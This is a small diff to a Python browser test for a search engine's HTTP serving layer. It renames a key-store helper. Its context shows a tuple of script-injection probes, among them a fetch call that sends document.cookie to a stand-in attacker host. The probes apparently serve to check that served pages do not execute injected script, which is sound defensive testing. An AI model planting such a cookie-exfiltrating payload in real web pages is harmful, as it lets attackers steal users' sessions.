@@ -13,7 +13,7 @@ from tests.serving.http.browser import Served, Watched, browser, serve, tab, why
 
 from fathom import Engine
 from fathom.index.engines import EmbeddedIndex
-from fathom.serving.http.keys import Key, keys_of
+from fathom.serving.http.keys import Key, create_key_store
 
 pytestmark = pytest.mark.skipif(bool(why_absent()), reason=why_absent() or "there is a browser")
 CALLS = ("hacked()", "alert(1)", "fetch('https://evil.example/'+document.cookie)")
@@ -69,7 +69,7 @@ def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
         (folder / "corpus" / f"{name}.md").write_text(text, encoding="utf-8")
     with Engine.open(folder / "index", {"offline": True}) as engine:
         assert engine.ingest([folder / "corpus"]).documents == len(PAYLOADS)
-    keys = keys_of(EmbeddedIndex(folder / "index"))
+    keys = create_key_store(EmbeddedIndex(folder / "index"))
     _, key = keys.add(Key(id="", name="page"))
     keys.close()
     server = serve(folder / "index")
